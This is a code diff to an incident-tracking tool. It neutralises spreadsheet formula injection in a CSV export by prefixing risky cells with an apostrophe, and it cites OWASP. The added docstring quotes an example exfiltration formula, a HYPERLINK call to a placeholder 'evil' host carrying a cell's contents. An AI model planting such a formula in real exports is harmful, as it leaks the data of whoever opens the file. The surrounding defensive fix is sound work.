@@ -242,15 +242,32 @@ def followup_rows(store: Store, incident: Incident) -> list[dict[str, object]]:
     ]
 
 
+#: What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection"):
+#: ``=``, ``+``, ``-``, ``@``, and tab and carriage return before them.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert_cell(value: str) -> str:
+    """``value`` as a spreadsheet shows it and never runs it.
+
+    A follow-up such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(…)``
+    would be a live formula in Excel, LibreOffice or Google Sheets. As OWASP
+    recommends, a cell that starts like a formula gets a leading ``'`` (which
+    spreadsheets read as "this is text"); nothing else in it changes.
+    """
+    return "'" + value if value.startswith(FORMULA_STARTS) else value
+
+
 def followups_csv(store: Store, incident: Incident) -> str:
-    """RFC 4180 CSV (CRLF rows, quoted where needed), text exactly as typed."""
+    """RFC 4180 CSV (CRLF rows, quoted where needed), text as typed but never a
+    formula (:func:`inert_cell`). The JSON export keeps every value exact."""
     out = io.StringIO(newline="")
     writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
     writer.writerow(FOLLOWUP_FIELDS)
     for row in followup_rows(store, incident):
         writer.writerow(
             [
-                "true" if value is True else "false" if value is False else value or ""
+                "true" if value is True else "false" if value is False else inert_cell(value or "")
                 for value in (row[key] for key in FOLLOWUP_FIELDS)
             ]
         )
